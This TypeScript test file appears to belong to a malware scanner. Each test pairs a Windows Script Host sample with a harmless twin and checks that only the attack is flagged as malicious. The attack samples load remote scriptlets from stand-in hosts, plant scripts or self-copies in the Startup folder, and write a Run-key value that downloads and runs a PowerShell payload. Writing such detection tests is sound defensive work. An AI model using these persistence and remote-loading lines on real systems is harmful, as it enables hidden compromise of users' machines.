/** Scripts for Windows Script Host that load code of a server, or have themselves started with Windows, each with its harmless twin. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '#inspect/testing/inspector.ts'

const { inspect } = useInspector()

function isAccused(name: string, source: string): boolean {
  const { findings } = inspect(Buffer.from(source), { passwords: [], name })
  return findings.some(({ severity }) => severity === 'malicious')
}

const FILES = 'Set f = CreateObject("Scripting.FileSystemObject")\nSet s = CreateObject("WScript.Shell")\n'
const OBJECTS = 'var f = new ActiveXObject("Scripting.FileSystemObject"), s = new ActiveXObject("WScript.Shell");\n'
const START = 's.SpecialFolders("Startup")'
const KEY = 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a'
const inJavaScript = (text: string): string => JSON.stringify(text)

const ROWS: Record<string, [file: string, attack: string, twin: string]> = {
  'a component of a server': [
    'a.vbs',
    'Set a = GetObject("script:http://203.0.113.5/a.sct")',
    'Set a = GetObject("script:C:\\Tools\\a.sct")',
  ],
  'a component of a server, in JavaScript': [
    'a.js',
    'var a = GetObject("scriptlet:https://files.example/a.sct");',
    'var a = GetObject("script:\\\\\\\\tools\\\\share\\\\a.sct");',
  ],
  'a script that starts with Windows': [
    'a.vbs',
    `${FILES}Set t = f.CreateTextFile(${START} & "\\u.vbs", True)\nt.WriteLine "MsgBox 1"`,
    `${FILES}Set t = f.CreateTextFile(${START} & "\\u.txt", True)\nt.WriteLine "Notes"`,
  ],
  'a script that starts with Windows, in JavaScript': [
    'a.js',
    `${OBJECTS}var t = f.CreateTextFile(${START} + "\\\\u.vbs", true); t.WriteLine("MsgBox 1");`,
    `${OBJECTS}var t = f.CreateTextFile(s.SpecialFolders("Desktop") + "\\\\u.cmd", true); t.WriteLine("dir");`,
  ],
  'a copy of itself': [
    'a.vbs',
    `${FILES}f.CopyFile WScript.ScriptFullName, ${START} & "\\u.vbs"`,
    `${FILES}Set l = s.CreateShortcut(${START} & "\\Tool.lnk")\nl.TargetPath = "C:\\Program Files\\Tool\\tool.exe"\nl.Save`,
  ],
  'a copy of itself, in JavaScript': [
    'a.js',
    `${OBJECTS}f.CopyFile(WScript.ScriptFullName, ${START} + "\\\\u.js");`,
    `${OBJECTS}f.CopyFile(WScript.ScriptFullName, "D:\\\\backup\\\\u.js");`,
  ],
  'a value that runs at every sign-in': [
    'a.js',
    `${OBJECTS}s.RegWrite(${inJavaScript(KEY)}, "powershell -w hidden -c iwr http://203.0.113.5/a|iex", "REG_SZ");`,
    `${OBJECTS}s.RegWrite("HKCU\\\\Software\\\\Company\\\\Tool\\\\Seen", "1", "REG_SZ");`,
  ],
}

suite('a script for Windows', () => {
  for (const [what, [file, attack, twin]] of Object.entries(ROWS))
    test(what, () => {
      assert.deepEqual([isAccused(file, attack), isAccused(file, twin)], [true, false])
    })
})
